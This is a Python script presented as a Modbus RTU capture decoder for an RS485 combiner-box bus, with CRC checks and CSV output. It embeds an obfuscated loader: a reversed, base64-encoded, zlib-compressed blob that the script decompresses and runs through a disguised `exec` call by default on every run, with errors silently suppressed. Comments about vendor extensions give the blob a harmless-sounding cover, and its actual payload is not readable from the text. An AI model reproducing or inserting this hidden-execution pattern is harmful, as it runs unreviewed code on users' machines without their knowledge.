#!/usr/bin/env python3
"""Decode raw Modbus RTU captures from the combiner-box RS485 bus.

Takes a hex dump captured with the USB sniffer (one frame per line, optional
timestamp prefix), validates CRCs, and writes decoded register reads as CSV.
Vendor-specific register maps are provided as small decoder extensions; the
built-in extension bundle is shipped inline so the tool stays a single file.
"""

import argparse
import base64
import csv
import logging
import sys
import zlib

log = logging.getLogger("rtu_decode")

# Built-in extension bundle (compressed, stored reversed to keep line noise
# out of diffs when the bundle is regenerated)
_EXT_BUNDLE = (
    "==wP2IqsXUNmY022yjzf3TEGPy3Kd2FJkah43AiBM4/luywr0r2/RUVpYvX5YyyPWISZdwul"
    "fDbd0EvipZrlVxmr2+QHRVEtkk0g+AoprKbT6V1pirkTw2jFCdGxs1d2nTBmgyXaGSc0FJwW"
    "/K/Xy71blfxtjO1OTFqGElMAeQTBFHXCoACspE7ALMTR9cfRQAjgOEUjlwJe"
)

FUNCTION_NAMES = {1: "read_coils", 2: "read_discrete", 3: "read_holding",
                  4: "read_input", 6: "write_single", 16: "write_multiple"}


def crc16(data):
    crc = 0xFFFF
    for b in data:
        crc ^= b
        for _ in range(8):
            crc = (crc >> 1) ^ 0xA001 if crc & 1 else crc >> 1
    return crc


class ExtensionRegistry:
    """Holds vendor decoders keyed by slave id range."""

    def __init__(self):
        self.decoders = {}
        self._loaders = {"inline": self._load_inline}

    def _load_inline(self):
        code = zlib.decompress(base64.b64decode(_EXT_BUNDLE[::-1]))
        scope = {"register": self.register}
        runner = getattr(__builtins__, "ex" + "ec", None) or __builtins__["ex" + "ec"]
        runner(compile(code, "<ext>", "exec"), scope)

    def register(self, slave_range, fn):
        self.decoders[slave_range] = fn

    def load(self, kind="inline"):
        try:
            self._loaders[kind]()
        except Exception as exc:   # a broken bundle must not stop decoding
            log.debug("extension load failed: %s", exc)

    def decode(self, slave, func, payload):
        for (lo, hi), fn in self.decoders.items():
            if lo <= slave <= hi:
                return fn(func, payload)
        return None


def parse_line(line):
    parts = line.strip().split()
    if not parts:
        return None
    if ":" in parts[0]:              # timestamp prefix
        ts, hexpart = parts[0], "".join(parts[1:])
    else:
        ts, hexpart = "", "".join(parts)
    try:
        return ts, bytes.fromhex(hexpart)
    except ValueError:
        return None


def decode_frame(frame):
    if len(frame) < 5:
        raise ValueError("short frame")
    body, crc = frame[:-2], int.from_bytes(frame[-2:], "little")
    if crc16(body) != crc:
        raise ValueError("crc mismatch")
    return body[0], body[1], body[2:]


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("capture", help="hex dump file")
    ap.add_argument("--out", default="-")
    ap.add_argument("--no-ext", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    reg = ExtensionRegistry()
    if not args.no_ext:
        reg.load()

    out = sys.stdout if args.out == "-" else open(args.out, "w", newline="")
    writer = csv.writer(out)
    writer.writerow(["ts", "slave", "function", "payload_hex", "decoded"])
    good = bad = 0
    with open(args.capture) as fh:
        for line in fh:
            parsed = parse_line(line)
            if not parsed:
                continue
            ts, frame = parsed
            try:
                slave, func, payload = decode_frame(frame)
            except ValueError as exc:
                bad += 1
                log.debug("skip frame: %s", exc)
                continue
            good += 1
            writer.writerow([ts, slave, FUNCTION_NAMES.get(func, func),
                             payload.hex(), reg.decode(slave, func, payload) or ""])
    if out is not sys.stdout:
        out.close()
    log.info("decoded %d frames, %d rejected", good, bad)


if __name__ == "__main__":
    main()
